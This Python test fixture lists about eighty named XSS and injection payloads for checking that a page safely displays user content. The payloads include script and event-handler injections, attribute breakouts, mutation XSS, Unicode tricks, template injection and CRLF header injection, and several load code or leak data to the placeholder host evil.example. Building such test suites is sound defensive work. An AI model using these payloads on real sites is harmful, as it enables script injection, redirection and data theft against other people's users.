"""Classes of attack on a page that shows what others wrote. Each calls alert(1) if it runs, or leads elsewhere."""

import pytest

OUTSIDE = "https://evil.example"

ATTACKS = {
    "script element": "<script>alert(1)</script>",
    "script element with a source": f"<script src={OUTSIDE}/x.js></script>",
    "script in odd case and with a slash": "<ScRiPt/x>alert(1)</sCrIpT >",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script that is left open": "<script>alert(1)//",
    "event handler": "<img src=x onerror=alert(1)>",
    "event handler without quotes or blanks": "<svg/onload=alert(1)>",
    "event handler that needs nobody": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "event handler after a null": "<img src=x \x00onerror=alert(1)>",
    "event handler after a form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "out of double quotes": '" autofocus tabindex=1 onfocus="alert(1)',
    "out of single quotes": "' autofocus tabindex=1 onfocus='alert(1)",
    "out of no quotes": "x autofocus tabindex=1 onfocus=alert(1)",
    "out of back ticks": "` autofocus tabindex=1 onfocus=alert(1) `",
    "out of an attribute and its element": '"><img src=x onerror=alert(1)>',
    "out of escaped quotes": "\\\"><img src=x onerror=alert(1)>\\'><img src=x onerror=alert(1)>",
    "out of entities": "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;&#34;&#62;",
    "javascript address": "javascript:alert(1)",
    "javascript address in odd case": " \x01JaVaScRiPt:alert(1)",
    "javascript address with a tab": "java\tscript:alert(1)",
    "javascript address as entities": "&#106;avascript&colon;alert(1)",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with a line break": '<a href=" java&#x0A;script:alert(1)">x</a>',
    "data address": "data:text/html,<script>alert(1)</script>",
    "data link": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "vbscript and blob links": "<a href='vbscript:alert(1)'>x</a><a href='blob:null/1'>x</a>",
    "address of another host": f"{OUTSIDE}/x",
    "address without a scheme": "//evil.example/x",
    "address with backslashes": "/\\evil.example/x",
    "address in a list of addresses": f"/x 1w, {OUTSIDE}/x 2w",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that animates an address": "<svg><a><animate attributeName=href values=javascript:alert(1)><text>x</text></a>",
    "svg that uses another": f'<svg><use href="{OUTSIDE}/x.svg#x"/></svg>',
    "mathml": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "mathml link": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "style element": "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(//evil.example/x)' class=x id=content>x</p>",
    "css address": "url(javascript:alert(1)) expression(alert(1))",
    "out of a style element": "</style><img src=x onerror=alert(1)>",
    "out of the title": "</title><script>alert(1)</script>",
    "out of a text field": "</textarea><script>alert(1)</script>",
    "out of a select": "</option></select><img src=x onerror=alert(1)>",
    "out of a script element": "</script><script>alert(1)</script>",
    "out of JSON": '"}]}</script><script>alert(1)</script>{"a":["',
    "into JSON's comment": "<!--<script>alert(1)",
    "line separators in a script": "\u2028alert(1)\u2029",
    "out of a comment": "--><img src=x onerror=alert(1)><!--",
    "out of a comment with a bang": "--!><img src=x onerror=alert(1)>",
    "comment as old browsers had it": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "character data section": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "iframe": f"<iframe src={OUTSIDE}></iframe>",
    "iframe with its own document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object and embed": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "meta refresh": f'<meta http-equiv=refresh content="0;url={OUTSIDE}">',
    "meta refresh to a script": '"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base": f"<base href={OUTSIDE}/>",
    "base out of an attribute": f'"><base href="{OUTSIDE}/">',
    "link element": f"<link rel=stylesheet href={OUTSIDE}/x.css><link rel=prefetch href={OUTSIDE}/y>",
    "form": f"<form action={OUTSIDE}><input name=q><button>x</button></form>",
    "button that sends elsewhere": f'<button form=request formaction="{OUTSIDE}">x</button>',
    "dangling markup": f"\"><img src='{OUTSIDE}/?",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by template": '<template><p title="</template><img src=x onerror=alert(1)>">',
    "mutation by svg's title": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "mutation by nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "mutation by tables": "<table><svg><style><a title='</style><img src=x onerror=alert(1)>'></table>",
    "mutation by select": "<select><noembed></select><script>x='<noembed>';alert(1)</script>",
    "mutation by xmp and plaintext": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext>",
    "names that hide the document's own": "<a id=content name=forms></a><form name=body></form><img name=cookie>",
    "template syntax": "{{ 1337 * 1337 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template syntax of others": "${1337*1337}#{1337*1337}<%= 1337*1337 %>{{constructor.constructor('alert(1)')()}}",
    "format strings": "%(name)s %s {0.__class__} {site} %%",
    "letters that become brackets": "＜script＞alert(1)＜/script＞ʺ onfocus=alert(1)",
    "overlong bytes": b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe".decode("latin-1"),
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "letters that turn the text": "\u202e<script>\u2066alert(1)\u2069</script>\u202c",
    "letters that nobody sees": "<\u200bscript>alert(1)</script\ufeff><\u00ads\u00adcript>alert(1)",
    "null in a name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "half a letter": "<img src=x onerror=alert(1)>\ud83d".encode("utf-16", "surrogatepass").decode(
        "utf-16", "replace"
    ),
    "line breaks into headers": f"x\r\nSet-Cookie: a=1\r\nLocation: {OUTSIDE}\r\n\r\n<script>alert(1)</script>",
}
"""By the name of the class."""

EACH = [
    name if place % 8 == 0 else pytest.param(name, marks=pytest.mark.slow)
    for place, name in enumerate(ATTACKS)
]
"""To go through many pages with, which takes seconds for all of them together: the quick run has one of eight."""

EXECUTED = "1787569"
"""What 1337 * 1337 is where a template reckons."""
